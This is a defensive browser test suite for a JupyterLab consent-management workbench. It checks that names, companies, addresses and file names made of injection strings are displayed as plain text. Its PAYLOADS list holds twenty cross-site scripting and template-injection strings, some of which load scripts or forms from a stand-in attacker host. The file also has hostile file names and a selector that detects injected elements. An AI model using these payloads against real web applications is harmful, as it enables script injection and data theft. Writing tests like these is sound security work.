"""Text that attacks, as names, companies, addresses and file names: every panel and report shows it as typed, and nothing of it runs."""

from __future__ import annotations

import csv
import json
import os
import re
from pathlib import Path

import pytest

pytest.importorskip("playwright", reason="Playwright for Python is not installed")

from lab_browser import PATIENCE, browser_path, open_notebook, panel_of, status_is, workspace_in_lab
from panel_workspace import invented
from playwright.sync_api import Page, expect

pytestmark = pytest.mark.skipif(browser_path() is None, reason="no Chromium on this machine: apt-get install chromium")

PAYLOADS = (
    "<script>alert(1)</script>",
    "</td></tr></table><script src=https://evil.example.com/x.js></script>",
    "<img src=https://evil.example.com/pixel.png onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '"><script>alert(1)</script>',
    "' autofocus onfocus=alert(1) x='",
    "</textarea></title></style><script>alert(1)</script>",
    "<a href=javascript:alert(1)>click</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<link rel=stylesheet href=https://evil.example.com/x.css>",
    "<style>@import 'https://evil.example.com/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.com/'>",
    "<form action=https://evil.example.com/><input name=x><button>go</button></form>",
    "<object data=https://evil.example.com/x.swf></object>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "$$\\href{javascript:alert(1)}{x}$$",
    "[x](javascript:alert(1)) ![x](https://evil.example.com/p.png)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
CHART = "svg.cw-chart[role='img']"
FOREIGN = f"script, img, svg:not(.jp-icon *):not([data-icon]):not({CHART}), {CHART} :not(title, desc, g, path, text), iframe:not([sandbox='']), object, embed, link, meta, math, form, base, [onerror], [onload], [onfocus], a[href^='javascript']"
"""What no panel of ours holds: whatever of it is found came out of a text. A chart of ours has five kinds of elements, and no others."""


def naughty() -> list[str]:
    """The public list of naughty strings, where it is at hand, and the payloads above."""
    corpora = os.environ.get("WORKBENCH_CORPORA")
    listed = json.loads((Path(corpora) / "naughty-strings.json").read_text(encoding="utf-8")) if corpora else []
    return [*listed, *PAYLOADS]


def attackers(texts: list[str]) -> list[dict[str, str]]:
    """One person a text, who has it as first name, last name and company."""
    people = invented(len(texts))
    for person, text in zip(people, texts, strict=True):
        person |= {"First Name": text, "Last Name": text or "nothing", "Company": text or "nothing"}
        person |= {"Unsubscribed": "yes", "Unsubscribed At": "2026-05-04T10:00:00Z", "Unsubscribe Source": "manual"}
    return people


@pytest.fixture(scope="module")
def lab_page(tmp_path_factory):
    """JupyterLab on people who are nothing but attacks; fails on a dialog, an error, or a request that leaves this machine."""
    with workspace_in_lab(tmp_path_factory.mktemp("hostile"), people=attackers(naughty())) as opened:
        yield opened


def nothing_foreign(page: Page) -> None:
    """No element in the panel that a text brought along."""
    found = panel_of(page).evaluate(
        "(panel, foreign) => [...panel.querySelectorAll(foreign)].map((e) => e.outerHTML.slice(0, 200))", FOREIGN
    )
    assert found == []


def in_order(text: str) -> str:
    """A text as a browser's innerText compares: spaces of all kinds are one."""
    return " ".join(re.sub(r"[\x00-\x1f\x7f]", " ", text).split())


def test_every_name_and_company_stands_in_the_grid_as_typed(lab_page):
    page, wb, _ = lab_page
    stored = {row.email: row for row in wb.people().itertuples()}
    assert len(stored) == len(naughty())
    open_notebook(page, "01-review-unsubscribed.ipynb")
    panel = panel_of(page)
    shown: dict[str, list[str]] = {}
    while True:
        page_now = panel.locator("tbody").evaluate(
            "body => [...body.rows].map((row) => [...row.cells].map((cell) => cell.textContent))"
        )
        shown |= {cells[2]: cells for cells in page_now}
        nothing_foreign(page)
        if panel.get_by_role("button", name="Next").is_disabled():
            break
        where = panel.locator(".cw-where").inner_text()
        panel.get_by_role("button", name="Next").click()
        expect(panel.locator(".cw-where")).not_to_have_text(where)
    assert set(shown) == set(stored)
    for address, cells in shown.items():
        person = stored[address]
        assert cells[3] == f"{person.first_name} {person.last_name}".strip()
        assert cells[4] == person.company
    companies = {person.company for person in stored.values()}
    assert {in_order(p) for p in PAYLOADS} <= {in_order(c) for c in companies}, "the attacks arrived in the register"


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_a_card_shows_its_person_as_typed(lab_page, number):
    page, _, _ = lab_page
    address = f"person{len(naughty()) - len(PAYLOADS) + number:03d}@"
    if number == 0:
        open_notebook(page, "01-review-unsubscribed.ipynb")
    panel = panel_of(page)
    panel.get_by_label("Filter name or address").fill(address)
    expect(panel.locator("tbody tr").first).to_contain_text(address, timeout=PATIENCE)
    panel.get_by_role("button", name=re.compile("^Open the card")).first.click()
    card = panel.get_by_role("region", name="Person card")
    expect(card).to_contain_text(address, timeout=PATIENCE)
    assert in_order(PAYLOADS[number]) in in_order(card.evaluate("card => card.textContent"))
    nothing_foreign(page)


def test_a_file_of_attacks_as_addresses_and_names_of_files(lab_page, tmp_path):
    page, _, _ = lab_page
    open_notebook(page, "02-batch-resubscribe.ipynb")
    panel = panel_of(page)
    texts = [text for text in naughty() if text.strip()]
    addresses = tmp_path / "<img src=x onerror=alert(1)>.csv"
    with addresses.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["Email"])
        writer.writerows([text] for text in [*PAYLOADS, *texts, "person001@example.org"])
    with page.expect_file_chooser() as chooser:
        panel.get_by_role("button", name="Addresses (CSV)").click()
    chooser.value.set_files(addresses)
    status_is(page, "could not be matched")
    told = in_order(panel.evaluate("panel => panel.textContent"))
    for payload in PAYLOADS:
        assert in_order(payload) in told
    nothing_foreign(page)

    panel.get_by_role("tab", name="2 Consent").click()
    form = tmp_path / "'\"><img src=x onerror=alert(1)>.txt"
    form.write_text("\n".join(texts), encoding="utf-8")
    panel.get_by_label("Consent given at").fill("2026-10-20 14:05:00 +02:00")
    panel.get_by_label("Notice shown").fill(PAYLOADS[0])
    panel.get_by_label("Where", exact=True).fill(PAYLOADS[2])
    panel.get_by_label("Jurisdiction").fill("US")
    with page.expect_file_chooser() as chooser:
        panel.get_by_role("button", name="Evidence").click()
    chooser.value.set_files(form)
    expect(panel).to_contain_text("<img src=x onerror=alert(1)>.txt", timeout=PATIENCE)
    nothing_foreign(page)
    panel.get_by_role("button", name="Record consent").click()
    status_is(page, "Consent recorded for")
    panel.get_by_role("tab", name="3 Check").click()
    panel.get_by_role("button", name="Check", exact=True).click()
    status_is(page, "may be resubscribed")
    nothing_foreign(page)


@pytest.mark.parametrize("name", ["00-start-here", "03-mismatches"])
def test_the_other_panels_hold_nothing_foreign(lab_page, name):
    page, _, _ = lab_page
    open_notebook(page, f"{name}.ipynb")
    expect(panel_of(page).get_by_role("status")).not_to_be_empty(timeout=PATIENCE)
    nothing_foreign(page)


def test_trail_and_report(lab_page):
    page, _, _ = lab_page
    open_notebook(page, "04-audit-trail.ipynb")
    status_is(page, "events")
    nothing_foreign(page)
    panel = panel_of(page)
    panel.get_by_label("Operator").fill(PAYLOADS[0])
    panel.get_by_role("button", name="Show events").click()
    status_is(page, "0 events fit")
    panel.get_by_role("tab", name="Reports").click()
    panel.get_by_label("Report", exact=True).select_option(label="Mismatch review")
    expect(panel.get_by_label("Only over limit")).to_be_visible(timeout=PATIENCE)
    panel.get_by_label("Personal data").select_option("full")
    panel.get_by_role("button", name="Run report").click()
    status_is(page, "its digest is on the trail")
    nothing_foreign(page)
    inside = page.frame_locator(".cw-panel iframe").locator("body")
    expect(inside).to_contain_text("Mismatch", timeout=PATIENCE)
    alive = inside.evaluate(
        "body => [...body.querySelectorAll('script, iframe, object, embed, form, [onerror], [onload]')].map((e) => e.outerHTML.slice(0, 200))"
    )
    assert alive == []


def test_the_look_for_foreign_elements_sees_one(lab_page):
    page, _, _ = lab_page
    open_notebook(page, "00-start-here.ipynb")
    panel_of(page).evaluate("panel => panel.insertAdjacentHTML('beforeend', '<img data-planted alt=x>')")
    with pytest.raises(AssertionError, match="data-planted"):
        nothing_foreign(page)
